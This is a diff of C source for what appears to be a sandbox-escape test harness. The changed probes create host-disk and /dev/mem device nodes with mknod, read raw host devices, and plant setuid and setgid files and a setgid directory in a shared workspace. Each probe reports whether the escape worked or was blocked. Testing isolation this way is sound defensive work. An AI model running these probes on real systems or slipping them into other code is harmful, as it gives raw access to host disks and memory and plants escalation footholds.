@@ -420,28 +420,29 @@ ATTACK(open_by_handle)
     blocked("%s", why);
 }
 
-/* mknod WS MAJOR MINOR: create a block device node for the host's root disk in the workspace and
- * read it (raw access to every host file). Needs CAP_MKNOD; nodev mounts stop the open too. */
+/* mknod WS MAJOR MINOR: create a block device node for the host's root disk in the workspace.
+ * Needs CAP_MKNOD. A node that exists is already the escape: it lands in the host's workspace,
+ * where any host process opening it reads the raw disk (inside, nodev would stop the open). */
 ATTACK(mknod)
 {
     const char *ws = arg_str(argc, argv, 1, "/workspace");
     unsigned maj = (unsigned)arg_long(argc, argv, 2, 254);
     unsigned min = (unsigned)arg_long(argc, argv, 3, 0);
-    char p[4096];
+    char p[4096], c[4096];
     snprintf(p, sizeof p, "%s/disk", ws);
+    snprintf(c, sizeof c, "%s/mem", ws);
     unlink(p);
-    if (mknod(p, S_IFBLK | 0600, makedev(maj, min)) != 0)
-        blocked("mknod block %u:%u: %s", maj, min, en());
-    int fd = open(p, O_RDONLY | O_CLOEXEC);
+    unlink(c);
+    if (mknod(p, S_IFBLK | 0600, makedev(maj, min)) == 0) {
+        unlink(p);
+        escaped("created block device node %u:%u for the host disk", maj, min);
+    }
     int e = errno;
-    char b[512];
-    ssize_t n = fd >= 0 ? read(fd, b, sizeof b) : -1;
-    if (fd >= 0 && n < 0)
-        e = errno;
-    unlink(p);
-    if (n > 0)
-        escaped("read %zd bytes of host disk %u:%u through own device node", n, maj, min);
-    blocked("mknod worked but open/read failed: %s", errname(e));
+    if (mknod(c, S_IFCHR | 0600, makedev(1, 1)) == 0) {
+        unlink(c);
+        escaped("created /dev/mem character device node 1:1");
+    }
+    blocked("mknod block %u:%u: %s; char 1:1: %s", maj, min, errname(e), en());
 }
 
 /* dev_disk PATH...: open raw host devices directly (/dev/vda, /dev/mem, /dev/kmsg, /dev/port). */
@@ -451,7 +452,7 @@ ATTACK(dev_disk)
     for (int i = 1; i < argc; i++) {
         int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
         if (fd >= 0) {
-            char b[64];
+            static char b[16384];
             if (read(fd, b, sizeof b) > 0)
                 escaped("read raw device %s", argv[i]);
             close(fd);
@@ -468,20 +469,46 @@ ATTACK(dev_disk)
 ATTACK(setuid_plant)
 {
     const char *ws = arg_str(argc, argv, 1, "/workspace");
-    char p[4096];
-    snprintf(p, sizeof p, "%s/suid", ws);
-    unlink(p);
-    if (copy_file("/proc/self/exe", p, 0755) != 0)
-        blocked("create %s: %s", p, en());
-    int r1 = chmod(p, 04755);
-    int e1 = errno;
-    int r2 = chmod(p, 02755);
-    int e2 = errno;
+    char p[4096], done[1024] = "";
     struct stat st;
-    if (stat(p, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)))
-        escaped("planted %s with mode %o (owner uid %u inside)", p, st.st_mode & 07777, st.st_uid);
-    blocked("chmod u+s: %s, g+s: %s; mode stays %o", r1 ? errname(e1) : "ok(stripped)",
-            r2 ? errname(e2) : "ok(stripped)", st.st_mode & 07777);
+    /* 1. create with the bits already in the mode of open(O_CREAT) */
+    snprintf(p, sizeof p, "%s/suid-creat", ws);
+    unlink(p);
+    umask(0);
+    int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
+    if (fd >= 0) {
+        close(fd);
+        if (stat(p, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)))
+            snprintf(done, sizeof done, " open(O_CREAT, 06755)->%o", st.st_mode & 07777);
+    }
+    /* 2. chmod after creation, setuid and setgid separately */
+    int modes[] = {04755, 02755};
+    const char *names[] = {"suid-chmod", "sgid-chmod"};
+    char why[512] = "";
+    for (int i = 0; i < 2; i++) {
+        snprintf(p, sizeof p, "%s/%s", ws, names[i]);
+        unlink(p);
+        if (copy_file("/proc/self/exe", p, 0755) != 0)
+            blocked("create %s: %s", p, en());
+        int r = chmod(p, modes[i]);
+        size_t u = strlen(why);
+        snprintf(why + u, sizeof why - u, " chmod %o: %s", modes[i], r ? en() : "ok");
+        if (stat(p, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) {
+            u = strlen(done);
+            snprintf(done + u, sizeof done - u, " chmod(%o)->%o", modes[i], st.st_mode & 07777);
+        }
+    }
+    /* 3. a setgid directory makes everything created inside inherit its group */
+    snprintf(p, sizeof p, "%s/sgid-dir", ws);
+    rmdir(p);
+    if (mkdir(p, 02755) == 0 && stat(p, &st) == 0 && (st.st_mode & S_ISGID)) {
+        size_t u = strlen(done);
+        snprintf(done + u, sizeof done - u, " mkdir(02755)->%o", st.st_mode & 07777);
+    }
+    if (done[0])
+        escaped("set-id bits planted in the workspace (files there belong to the workspace owner "
+                "on the host):%s", done);
+    blocked("no set-id bit sticks:%s", why);
 }
 
 /* proc_sys_write: the classic container escapes via /proc: core_pattern (run a host binary as
